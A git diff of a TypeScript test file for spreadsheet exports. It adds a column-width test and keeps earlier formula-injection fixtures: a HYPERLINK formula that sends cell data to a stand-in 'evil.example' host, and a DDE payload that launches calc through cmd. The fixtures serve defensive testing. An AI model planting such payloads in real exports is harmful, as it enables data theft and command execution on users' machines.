@@ -6,6 +6,7 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildEnterprise, type TestApp, testApp } from '../testing/harness.js';
 import { convertWithSoffice, sofficePath } from './soffice.js';
+import { buildWorkbook } from './xlsx.js';
 
 const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
 const ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -54,4 +55,29 @@ describe('formula injection in exports', () => {
     },
     120_000,
   );
+});
+
+describe('column widths', () => {
+  it('fit the widest value as shown, the bold 合计 row included (no "###")', async () => {
+    const file = await buildWorkbook([
+      {
+        name: '报表',
+        title: '生产安全事故统计表',
+        columns: [
+          { key: 'label', header: '地区', width: 10 },
+          { key: 'n', header: '起数', format: 'integer' },
+          { key: 'loss', header: '直接经济损失', format: 'decimal1' },
+        ],
+        rows: [{ label: '张店区', n: 3, loss: 12.5 }],
+        totals: { label: '合计', n: 1_234_567, loss: 1_885_123.4 },
+      },
+    ]);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(file as unknown as ArrayBuffer);
+    const ws = wb.worksheets[0] as ExcelJS.Worksheet;
+    // "1,234,567" and "1,885,123.4" (+1 for bold, +2 padding); the label column keeps its wider spec width.
+    expect(ws.getColumn(2).width).toBeGreaterThanOrEqual('1,234,567'.length + 3);
+    expect(ws.getColumn(3).width).toBeGreaterThanOrEqual('1,885,123.4'.length + 3);
+    expect(ws.getColumn(1).width).toBe(10);
+  });
 });
